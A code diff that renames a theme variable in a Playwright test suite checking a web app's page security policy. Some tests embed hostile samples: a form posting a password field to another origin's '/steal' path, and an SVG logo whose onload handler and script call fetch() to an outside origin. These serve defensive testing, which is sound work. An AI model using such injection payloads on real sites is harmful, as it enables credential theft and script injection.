@@ -7,8 +7,8 @@ import { after, before, describe, it } from 'node:test'
 import type { Browser, Page } from 'playwright-core'
 import { SCRIPT } from '../../src/pages/frame/script.ts'
 import { render } from '../../src/pages/html.ts'
-import type { Look } from '../../src/pages/theme.ts'
-import { lookOf } from '../fakes/pages.ts'
+import type { Theme } from '../../src/pages/theme.ts'
+import { themeOf } from '../fakes/pages.ts'
 import { skipWithoutChromium, startChromium } from '../servers/chromium.ts'
 import { temporaryFolder } from '../servers/temporary.ts'
 import { startPageServer, type PageServer } from './page-server.ts'
@@ -35,12 +35,12 @@ const canListenOn6 = async (): Promise<boolean> => {
 
 describe('the policy of the pages', { skip: skipWithoutChromium() }, () => {
   let browser: Browser
-  let look: Look
+  let theme: Theme
   let elsewhere: PageServer
   before(async () => {
     browser = await startChromium()
-    look = await lookOf()
-    elsewhere = await startPageServer({ look })
+    theme = await themeOf()
+    elsewhere = await startPageServer({ theme })
   })
   after(async () => {
     await browser.close()
@@ -86,7 +86,7 @@ describe('the policy of the pages', { skip: skipWithoutChromium() }, () => {
   for (const { name, markup } of INJECTED) {
     it(`hostile: ${name} that got into a page does nothing`, async () => {
       const body = `<!doctype html><title>still</title>${markup(elsewhere.origin)}<h1>x</h1><a href="a">a</a>${render(SCRIPT.element)}`
-      await using server = await startPageServer({ look, bodies: { '/injected': body } })
+      await using server = await startPageServer({ theme, bodies: { '/injected': body } })
       await using tab = await open()
       const already = elsewhere.asked.length
       await tab.page.goto(`${server.origin}/injected`)
@@ -102,7 +102,7 @@ describe('the policy of the pages', { skip: skipWithoutChromium() }, () => {
   it('hostile: a form that got into a page sends nothing elsewhere', async () => {
     const form = `<form method="post" action="${elsewhere.origin}/steal"><input name="password" value="x"><button>go</button></form>`
     await using server = await startPageServer({
-      look,
+      theme,
       bodies: { '/injected': `<!doctype html><title>still</title>${form}` },
     })
     await using tab = await open()
@@ -116,7 +116,7 @@ describe('the policy of the pages', { skip: skipWithoutChromium() }, () => {
 
   /** Logs out by the form, which leads to a place; where the browser is afterwards. */
   const sentTo = async (target: string, formTargets: readonly string[]): Promise<string> => {
-    await using server = await startPageServer({ look, formTargets, answerTo: () => target })
+    await using server = await startPageServer({ theme, formTargets, answerTo: () => target })
     await using tab = await open()
     await tab.page.goto(server.url('confirm-logout'))
     await tab.page.getByRole('button', { name: 'Log out' }).click()
@@ -133,7 +133,7 @@ describe('the policy of the pages', { skip: skipWithoutChromium() }, () => {
 
   it('a form may lead to a program that waits at an IPv6 address', async (context) => {
     if (!(await canListenOn6())) return context.skip('this machine has no ::1')
-    await using program = await startPageServer({ look }, '::1')
+    await using program = await startPageServer({ theme }, '::1')
     const target = program.url('logged-out')
     assert.equal(await sentTo(target, [target]), target)
     assert.notEqual(await sentTo(target, []), target)
@@ -141,7 +141,7 @@ describe('the policy of the pages', { skip: skipWithoutChromium() }, () => {
   })
 
   it('hostile: a page cannot be framed, by its own host either', async () => {
-    await using server = await startPageServer({ look })
+    await using server = await startPageServer({ theme })
     await using tab = await open()
     for (const framer of [elsewhere, server]) {
       await tab.page.route('**/framer', (route) =>
@@ -159,7 +159,7 @@ describe('the policy of the pages', { skip: skipWithoutChromium() }, () => {
   })
 
   it('hostile: whoever opened a page cannot reach into it', async () => {
-    await using server = await startPageServer({ look })
+    await using server = await startPageServer({ theme })
     await using tab = await open()
     await tab.page.goto(elsewhere.url('logged-out'))
     const [popup] = await Promise.all([
@@ -175,7 +175,7 @@ describe('the policy of the pages', { skip: skipWithoutChromium() }, () => {
     const logo = folder.file('logo.svg')
     const hostile = `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="parent.document.title='run'"><script>parent.document.title='run';fetch('${elsewhere.origin}/logo')</script><image href="${elsewhere.origin}/logo"/><style>@import "${elsewhere.origin}/logo"</style><rect width="40" height="40"/></svg>`
     await writeFile(logo, hostile)
-    await using server = await startPageServer({ look: await lookOf({ logo }) })
+    await using server = await startPageServer({ theme: await themeOf({ logo }) })
     await using tab = await open()
     await tab.page.goto(server.url('login-everything'))
     assert.equal(
